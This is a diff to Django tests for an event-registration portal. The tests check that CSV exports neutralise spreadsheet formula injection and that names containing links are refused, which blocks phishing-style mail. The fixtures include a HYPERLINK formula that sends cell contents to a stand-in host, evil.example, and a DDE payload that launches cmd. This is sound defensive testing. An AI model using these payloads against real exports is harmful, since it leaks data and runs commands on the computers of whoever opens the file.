@@ -331,7 +331,7 @@ def test_sign_ups_typed_as_formulas_stay_text_in_the_csv(client, make_event):
     register(
         client,
         event,
-        name='=HYPERLINK("http://evil.example/?"&A1,"Xem")',
+        name='=HYPERLINK("//evil.example/?"&A1,"Xem")',
         organisation="@SUM(1+1)*cmd|' /C calc'!A0",
         phone="+84 903 456 789",
     )
@@ -339,5 +339,21 @@ def test_sign_ups_typed_as_formulas_stay_text_in_the_csv(client, make_event):
     client.force_login(staff)
     body = b"".join(client.get("/admin/events/registrations/?export=csv").streaming_content)
     [_, row] = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
-    assert row[1] == '\'=HYPERLINK("http://evil.example/?"&A1,"Xem")'
+    assert row[1] == '\'=HYPERLINK("//evil.example/?"&A1,"Xem")'
     assert row[3] == "'+84 903 456 789" and row[4] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_a_name_with_a_link_is_not_mailed_to_the_address_typed_beside_it(
+    client, make_event, mailbox, django_capture_on_commit_callbacks
+):
+    """Anyone could have the portal mail "Chào <their text with a link>" to any inbox."""
+    event = make_event(capacity=10)
+    for name in ("Nhận quà tại https://qua-tang.example/nhan", "Bạn trúng thưởng www.evil.example"):
+        with django_capture_on_commit_callbacks(execute=True):
+            refused = register(client, event, name=name, email="nan-nhan@example.invalid")
+        assert refused.status_code == 400
+        assert "Họ tên không được chứa đường dẫn" in refused.content.decode()
+    assert not Registration.objects.exists() and not mailbox.messages
+    with django_capture_on_commit_callbacks(execute=True):
+        assert register(client, event, name="PGS.TS Nguyễn Văn An").status_code == 200
+    assert len(mailbox.messages) == 1
